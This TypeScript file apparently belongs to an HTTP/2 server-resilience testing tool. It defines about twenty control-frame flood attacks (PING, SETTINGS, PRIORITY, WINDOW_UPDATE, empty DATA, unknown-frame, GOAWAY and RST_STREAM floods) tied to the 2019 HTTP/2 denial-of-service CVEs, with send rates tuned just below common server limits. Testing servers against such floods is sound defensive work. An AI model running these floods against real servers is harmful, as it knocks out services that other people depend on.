import {
  anyFrame,
  data,
  goaway,
  headers,
  type Octets,
  ping,
  priority,
  priorityUpdate,
  rstStream,
  settings,
  windowUpdate,
} from '../wire/frames'
import { repeated } from '../wire/header-blocks'
import type { BeginOptions } from '../wire/hostile-connection'
import type { Attack } from './attack'
import { type FloodLimit, flood, floodOf, floodOfStreams, streams } from './floods'

/*
 * Frames that cost little to send, and ask for work, an answer or nothing at all.
 */

/** Just below what most servers allow: 10,000 at once, 330 a second. */
const BELOW = { burst: 9000, perSecond: 300 }
/** What must be answered waits in the output of a client that does not read: 1,000 may. */
const BELOW_UNREAD = { burst: 900, perSecond: 0 }

const INITIAL_WINDOW_SIZE = 4

/** How often the same frame is repeated in what is sent: made once, not each time. */
const TIMES = 100

function frameFlood(
  name: string,
  advisory: string,
  sends: string,
  frame: Octets,
  options: BeginOptions = {},
  limit: FloodLimit = BELOW,
): Attack {
  const { burst, perSecond } = limit
  return {
    name,
    advisory,
    sends,
    async run(host) {
      await flood(host, await host.open(options), repeated(frame, TIMES), {
        burst: burst / TIMES,
        perSecond: perSecond / TIMES,
      })
    },
  }
}

/** A flood beside requests whose handlers have not answered. */
function besideRequests(
  name: string,
  advisory: string,
  sends: string,
  make: (request: Octets) => { readonly before: readonly Octets[]; readonly again: Octets },
  path = '/',
): Attack {
  return {
    name,
    advisory,
    sends,
    ...(path === '/' ? {} : { needs: ['application'] as const }),
    async run(host) {
      // With `/` no response fits any window, with a long one none but the first.
      const connection = await host.open({ window: path === '/' ? 'none' : 'initial' })
      const { before, again } = make(host.request(path))
      await connection.send(...before)
      await flood(host, connection, again, { burst: 90, perSecond: 3 })
    },
  }
}

/** A flood in portions that no server has to cut off: it answers each before the next comes. */
function steadyFlood(name: string, advisory: string, sends: string, portion: Octets): Attack {
  return {
    name,
    advisory,
    sends,
    async run(host) {
      const connection = await host.open()
      while (await connection.send(portion)) {
        if (!(await host.sleep(host.below ? 1000 : 2))) return
      }
    },
  }
}

export const CONTROL_FRAMES: readonly Attack[] = [
  frameFlood('ping-flood', 'CVE-2019-9512', 'PING, from a client that reads the answers.', ping()),
  frameFlood(
    'ping-flood-unread',
    'CVE-2019-9512',
    'PING, from a client that reads nothing.',
    ping(),
    { reads: false },
    BELOW_UNREAD,
  ),
  frameFlood(
    'ping-acks',
    'CVE-2019-9512',
    'Acknowledgements of PING that nobody sent.',
    ping(true),
  ),
  frameFlood(
    'settings-flood',
    'CVE-2019-9515',
    'Empty SETTINGS, from a client that reads the answers.',
    settings(),
    {},
    { burst: 900, perSecond: 300 },
  ),
  frameFlood(
    'settings-flood-unread',
    'CVE-2019-9515',
    'Empty SETTINGS, from a client that reads nothing.',
    settings(),
    { reads: false },
    BELOW_UNREAD,
  ),
  steadyFlood(
    'ping-steady',
    'CVE-2019-9512',
    'PING in portions of 900, from a client that reads the answers.',
    repeated(ping(), 900),
  ),
  steadyFlood(
    'settings-steady',
    'CVE-2019-9515',
    'SETTINGS of 32 parameters in portions of 500, from a client that reads the answers.',
    repeated(
      settings(Array.from({ length: 32 }, (_, index) => [0xf0f0 + (index % 8), index] as const)),
      500,
    ),
  ),
  besideRequests(
    'settings-windows',
    'CVE-2019-9515',
    'SETTINGS that change INITIAL_WINDOW_SIZE 32 times each, while 128 responses wait.',
    (request) => ({
      before: streams(127, (streamId) => headers(streamId, request)),
      again: settings(
        Array.from({ length: 32 }, (_, index) => [INITIAL_WINDOW_SIZE, index % 2] as const),
      ),
    }),
  ),
  frameFlood(
    'settings-large',
    'CVE-2019-9515',
    'SETTINGS of 2,730 unknown parameters.',
    settings(Array.from({ length: 2730 }, () => [0xf0f0, 1] as const)),
    {},
    { burst: 100, perSecond: 100 },
  ),
  {
    name: 'empty-data',
    advisory: 'CVE-2019-9518',
    sends: 'Empty DATA frames of an upload that never ends.',
    async run(host) {
      const connection = await host.open()
      await connection.send(headers(1, host.request('/echo', 'POST'), { end: false }))
      await flood(host, connection, repeated(data(1), TIMES), { burst: 90, perSecond: 3 })
    },
  },
  {
    name: 'small-data',
    advisory: 'CVE-2019-9518',
    sends: 'DATA of one octet, to a handler that reads.',
    needs: ['application', 'waiting-handlers'],
    async run(host) {
      const connection = await host.open()
      await connection.send(headers(1, host.request('/echo', 'POST'), { end: false }))
      // An octet of both windows: what the server gives back is not waited for.
      const octets = Uint8Array.of(0)
      await flood(host, connection, repeated(data(1, octets), TIMES), { burst: 90, perSecond: 3 })
    },
  },
  frameFlood(
    'priority-flood',
    'CVE-2019-9513',
    'PRIORITY of streams that are idle.',
    priority(1, 0),
  ),
  besideRequests(
    'priority-shuffle',
    'CVE-2019-9513',
    'PRIORITY that turns the tree of 100 waiting streams around, again and again.',
    (request) => ({
      before: streams(100, (streamId) => headers(streamId, request)),
      again: Buffer.concat(
        streams(99, (streamId) => priority(streamId, streamId + 2, streamId % 256)),
      ),
    }),
  ),
  {
    name: 'priority-new-streams',
    advisory: 'CVE-2019-9513',
    sends: 'PRIORITY of ever new idle streams, each below the last.',
    async run(host) {
      let streamId = 1
      await floodOf(
        host,
        await host.open(),
        () => {
          streamId += 2
          return priority(streamId, streamId - 2)
        },
        BELOW,
      )
    },
  },
  {
    name: 'priority-updates',
    advisory: 'RFC 9218 section 13',
    sends: 'PRIORITY_UPDATE of ever new streams that are idle.',
    async run(host) {
      let streamId = 1
      await floodOf(
        host,
        await host.open(),
        () => {
          streamId += 2
          return priorityUpdate(streamId, 'u=1, i')
        },
        BELOW,
      )
    },
  },
  frameFlood(
    'window-updates',
    'CVE-2019-9511',
    'WINDOW_UPDATE of one octet for the connection.',
    windowUpdate(0, 1),
    { window: 'initial' },
  ),
  besideRequests(
    'window-updates-streams',
    'CVE-2019-9511',
    'WINDOW_UPDATE of one octet for each of 127 streams whose responses wait for the connection.',
    (request) => ({
      before: streams(127, (streamId) => headers(streamId, request)),
      again: Buffer.concat(streams(127, (streamId) => windowUpdate(streamId, 1))),
    }),
    '/large',
  ),
  frameFlood(
    'unknown-frames',
    'RFC 9113 section 10.5',
    'Frames of a type that does not exist.',
    anyFrame(0xfa, 0, 0),
  ),
  frameFlood(
    'unknown-frames-large',
    'RFC 9113 section 10.5',
    'Frames of 16 KiB of a type that does not exist.',
    anyFrame(0xfa, 0, 0, new Uint8Array(16_384)),
    {},
    { burst: 100, perSecond: 100 },
  ),
  frameFlood('goaway-flood', 'RFC 9113 section 6.8', 'GOAWAY, again and again.', goaway()),
  {
    name: 'frames-with-requests',
    advisory: 'RFC 9113 section 10.5',
    sends: 'Requests, each with four frames that have no effect, as some clients send them.',
    async run(host) {
      const connection = await host.open()
      const block = host.request()
      const others = Buffer.concat([
        ping(),
        priority(1, 0),
        windowUpdate(0, 1),
        anyFrame(0xfa, 0, 0),
      ])
      await floodOfStreams(host, connection, (streamId) => [headers(streamId, block), others])
    },
  },
  {
    name: 'resets-of-closed',
    advisory: 'RFC 9113 section 5.1',
    sends: 'RST_STREAM of a stream that has ended.',
    async run(host) {
      const connection = await host.open()
      await connection.send(headers(1, host.request()))
      await flood(host, connection, repeated(rstStream(1), TIMES), { burst: 9, perSecond: 0.3 })
    },
  },
]
